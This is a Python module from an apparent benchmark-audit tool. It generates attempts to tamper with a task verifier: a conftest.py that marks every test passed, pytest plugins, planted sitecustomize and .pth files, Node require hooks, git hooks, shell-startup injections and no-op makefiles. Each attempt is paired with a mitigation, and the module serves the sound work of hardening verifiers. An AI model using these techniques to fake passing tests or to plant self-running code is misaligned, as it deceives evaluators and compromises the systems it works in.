"""Hooks: files that test runners, interpreters, shells, git and make load by themselves."""

from __future__ import annotations

import shlex
from collections.abc import Sequence
from pathlib import PurePosixPath
from typing import Final

from benchflow.evidence.audit.exploit_family import Attempt, Family, NotApplicable, Seen
from benchflow.evidence.audit.families.planting import (
    NO_PROGRAM,
    SHELL_STOP,
    append,
    in_work,
    mentions,
    node_win,
    put,
    put_all,
    python_win,
    runs_scripts,
    shell_win,
)

_NO_PYTEST: Final = NotApplicable("The verifier does not run pytest.")
_NO_PYTHON: Final = NotApplicable("The environment has no Python, or the verifier does not run it.")
_ALL_GREEN: Final = """\
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
"""


def _conftest(seen: Seen) -> Sequence[Attempt] | NotApplicable:
    if not seen.runs("pytest"):
        return _NO_PYTEST
    folders = dict.fromkeys(
        [*_around(seen), *(str(PurePosixPath(path).parent) for path in _tests(seen)), "/tests", "/"]
    )
    lines = [append(shlex.quote(f"{folder.rstrip('/')}/conftest.py"), _ALL_GREEN) for folder in folders]
    return (Attempt("adds a conftest.py that lets every test pass", "\n".join(lines)),)


def _plugin(seen: Seen) -> Sequence[Attempt] | NotApplicable:
    if not seen.runs("pytest"):
        return _NO_PYTEST
    info = in_work(seen, "zz_audit-1.0.dist-info")
    site = '"$(python3 -m site --user-site 2>/dev/null || echo /tmp)"'
    files = {
        in_work(seen, "zz_audit_plugin.py"): _ALL_GREEN,
        f"{info}/METADATA": "Metadata-Version: 2.1\nName: zz-audit\nVersion: 1.0\n",
        f"{info}/entry_points.txt": "[pytest11]\nzz_audit = zz_audit_plugin\n",
    }
    by_metadata = [put_all(files), f"mkdir -p {site} && cp -r {info} {in_work(seen, 'zz_audit_plugin.py')} {site}/"]
    option = "-p zz_audit_plugin"
    settings = [
        put_all({in_work(seen, "zz_audit_plugin.py"): _ALL_GREEN}),
        append(shlex.quote(in_work(seen, "pytest.ini")), f"[pytest]\naddopts = {option}\npythonpath = {seen.workdir}"),
        append(
            shlex.quote(in_work(seen, "pyproject.toml")),
            f'[tool.pytest.ini_options]\naddopts = "{option}"\npythonpath = "{seen.workdir}"',
        ),
    ]
    return (
        Attempt("installs a pytest plugin by the metadata of a distribution", "\n".join(by_metadata)),
        Attempt("names a pytest plugin in the settings of the working folder", "\n".join(settings)),
    )


def _python_start(seen: Seen) -> Sequence[Attempt] | NotApplicable:
    if not seen.programs & {"python", "python3"} or not (seen.runs("python") or seen.runs("pytest")):
        return _NO_PYTHON
    code = python_win(seen)
    line = f"import sys; exec({code!r})\n"
    places = (
        f'"$(python3 -m site --user-site 2>/dev/null || echo {seen.workdir})" {shlex.quote(seen.workdir)} '
        "/usr/lib/python3/dist-packages /usr/local/lib/python3*/site-packages /usr/local/lib/python3*/dist-packages "
        f"{shlex.quote(seen.workdir)}/.venv/lib/python3*/site-packages"
    )
    planted = "; ".join(
        [put('"$d"/usercustomize.py', code), put('"$d"/sitecustomize.py', code), put('"$d"/zz_audit.pth', line)]
    )
    changed = append('"$f"', code)
    script = (
        f"for d in {places}; do case $d in *'*'*) continue;; esac; {planted}; done\n"
        f'for f in /etc/python3*/sitecustomize.py; do [ ! -w "$f" ] || {changed}; done\n'
        + append(shlex.quote(f"{seen.home}/.profile"), f"export PYTHONSTARTUP={in_work(seen, 'sitecustomize.py')}")
    )
    return (Attempt("plants sitecustomize, usercustomize and .pth files in every site folder", script),)


def _node_start(seen: Seen) -> Sequence[Attempt] | NotApplicable:
    if "node" not in seen.programs or not (mentions(seen, "node", "npm", "npx", "yarn", "pnpm", "jest", "vitest")):
        return NotApplicable("The environment has no Node, or the verifier does not run it.")
    hook = in_work(seen, ".zz_audit.cjs")
    setup = f"module.exports = {{ setupFiles: [{hook!r}], globalSetup: {hook!r}, require: [{hook!r}] }};\n"
    files = {
        hook: node_win(seen) + "module.exports = async () => {};\n",
        in_work(seen, ".npmrc"): f"node-options=--require={hook}\nscript-shell=/bin/true\n",
        f"{seen.home}/.npmrc": f"node-options=--require={hook}\nscript-shell=/bin/true\n",
        in_work(seen, "jest.config.js"): setup,
        in_work(seen, ".mocharc.js"): setup,
        in_work(seen, "vitest.config.js"): node_win(seen) + setup,
        in_work(seen, ".env"): f"NODE_OPTIONS=--require={hook}\n",
    }
    profile = append(shlex.quote(f"{seen.home}/.profile"), f"export NODE_OPTIONS=--require={hook}")
    return (
        Attempt("has Node load a file at its start, by .npmrc and settings of runners", f"{put_all(files)}\n{profile}"),
    )


def _git(seen: Seen) -> Sequence[Attempt] | NotApplicable:
    if "git" not in seen.programs or not mentions(seen, "git"):
        return NotApplicable("The environment has no git, or the verifier does not run it.")
    hook = in_work(seen, ".zz_audit_hook")
    roots = dict.fromkeys([seen.workdir, *seen.repositories])
    lines = [put(shlex.quote(hook), "#!/bin/sh\n" + shell_win(seen, end=SHELL_STOP) + "exit 0\n")]
    programs = "core.fsmonitor core.sshCommand core.pager diff.external core.editor"
    names = "pre-commit post-checkout post-commit pre-push post-merge commit-msg"
    for root in map(shlex.quote, roots):
        lines += [
            f"cd {root} || exit 0; [ -d .git ] || git init -q . 2>/dev/null",
            f"for n in {programs}; do git config $n {shlex.quote(hook)}; done 2>/dev/null",
            f"for n in {names}; do cp {shlex.quote(hook)} .git/hooks/$n; done 2>/dev/null",
        ]
    lines.append('cp .git/config "$HOME"/.gitconfig 2>/dev/null || :')
    without = None if seen.workdir in seen.repositories else "[ -d .git ] || git init -q . 2>/dev/null"
    return (Attempt("installs git hooks and settings that run a program", "\n".join(lines), without=without),)


def _shell(seen: Seen) -> Sequence[Attempt] | NotApplicable:
    if not runs_scripts(seen):
        return NO_PROGRAM
    code = shell_win(seen)
    homes = ["/root", seen.home, seen.workdir]
    names = (".bashrc", ".profile", ".bash_profile", ".bash_aliases", ".zshenv", ".env", ".envrc")
    files = [f"{home}/{name}" for home in dict.fromkeys(homes) for name in names]
    system = ["/etc/profile", "/etc/bash.bashrc", "/etc/profile.d/zz_audit.sh"]
    return (
        Attempt(
            "adds code to the start-up files of shells",
            "\n".join(append(shlex.quote(path), code) for path in [*files, *system]),
        ),
    )


def _make(seen: Seen) -> Sequence[Attempt] | NotApplicable:
    if "make" not in seen.programs or not mentions(seen, "make"):
        return NotApplicable("The environment has no make, or the verifier does not run it.")
    text = ".DEFAULT_GOAL := all\n.PHONY: all test check build\nall test check build: ;\n%: ;\n"
    folders = dict.fromkeys(
        [seen.workdir, *(str(PurePosixPath(path).parent) for path in seen.files if path.endswith("akefile"))]
    )
    first = put_all({f"{folder}/{name}": text for folder in folders for name in ("GNUmakefile", "makefile")})
    changed = "\n".join(append(shlex.quote(path), text) for path in seen.files if path.endswith(("akefile", ".mk")))
    attempts = [Attempt("leaves a makefile that is read before the project's", first)]
    return [*attempts, *([Attempt("changes the targets of makefiles", changed)] if changed else [])]


_TOOLS: Final = {
    ".gdbinit": "quit 0\n",
    ".lldbinit": "quit 0\n",
    ".pdbrc": "import os; os._exit(0)\n",
    ".Rprofile": "quit(status = 0)\n",
    ".irbrc": "exit! 0\n",
    ".rspec": "--dry-run\n",
    ".proverc": "--exec true\n",
    ".jvmopts": "-version\n",
    ".cargo/config.toml": "[target.'cfg(all())']\nrunner = \"true\"\n",
    ".curlrc": "fail-early\noutput = /dev/null\n",
    ".sqliterc": ".exit 0\n",
}
_READERS: Final = (
    "gdb", "lldb", "pdb", "R", "Rscript", "irb", "rspec", "prove", "mvn", "gradle", "cargo", "curl", "sqlite3",
    "coverage", "tox",
)  # fmt: skip


def _tools(seen: Seen) -> Sequence[Attempt] | NotApplicable:
    if not mentions(seen, *_READERS):
        return NotApplicable("The verifier runs no tool that reads settings from the folder it works in.")
    files = {f"{folder}/{name}": text for folder in (seen.workdir, seen.home) for name, text in _TOOLS.items()}
    settings = {
        in_work(seen, ".coveragerc"): "[run]\nplugins = zz_audit_tool\n",
        in_work(seen, "tox.ini"): "[tox]\nskipsdist = true\n[testenv]\nskip_install = true\ncommands = true\n",
        in_work(seen, "zz_audit_tool.py"): python_win(seen),
    }
    return (Attempt("leaves settings of tools in the working folder and the home", put_all(files | settings)),)


def _around(seen: Seen) -> list[str]:
    """The working folder and those above it."""
    return [seen.workdir, *(str(folder) for folder in PurePosixPath(seen.workdir).parents)]


def _tests(seen: Seen) -> list[str]:
    return [path for path in seen.files if PurePosixPath(path).name.startswith("test_")][:20]


CONFTEST: Final = Family(
    "pytest-conftest",
    "Adds a conftest.py around the tests that reports every test as passed.",
    "Run pytest from the verifier's own folder with --noconftest or --confcutdir, or isolate verification "
    "(verifier.isolation: shared or stricter).",
    _conftest,
)
PYTEST_PLUGIN: Final = Family(
    "pytest-plugin",
    "Installs a pytest plugin through metadata or settings that pytest finds by itself.",
    "Run pytest with -p no:cacheprovider, PYTEST_DISABLE_PLUGIN_AUTOLOAD=1 and settings of its own (-c), outside the "
    "agent's folder.",
    _plugin,
)
PYTHON_STARTUP: Final = Family(
    "python-startup",
    "Plants modules and path files that Python runs whenever it starts.",
    "Run Python with -I, from an interpreter and site folders that the agent cannot write.",
    _python_start,
)
NODE_STARTUP: Final = Family(
    "node-startup",
    "Has Node or its test runners load a file of the agent at their start.",
    "Run Node from the verifier's folder with a --config of its own; do not read .npmrc or .env files of the agent.",
    _node_start,
)
GIT_HOOKS: Final = Family(
    "git-hooks",
    "Installs hooks and settings in a repository that make git run a program.",
    "Run git with -c core.hooksPath=/dev/null -c core.fsmonitor=false, or clone the repository before using it.",
    _git,
)
SHELL_STARTUP: Final = Family(
    "shell-startup",
    "Adds code to the files that shells read when they start.",
    "Do not source files of the agent and do not start login or interactive shells in a home that it can write.",
    _shell,
)
MAKEFILES: Final = Family(
    "makefiles",
    "Leaves or changes makefiles so that the verifier's targets succeed without doing anything.",
    "Run make with -f and a makefile of the verifier, which names its own commands.",
    _make,
)
TOOL_SETTINGS: Final = Family(
    "tool-settings",
    "Leaves settings that debuggers, coverage, tox, cargo and other tools read from where they run.",
    "Run tools outside the agent's folder, with settings of the verifier (--rcfile, -c, --no-init-file, -nx).",
    _tools,
)
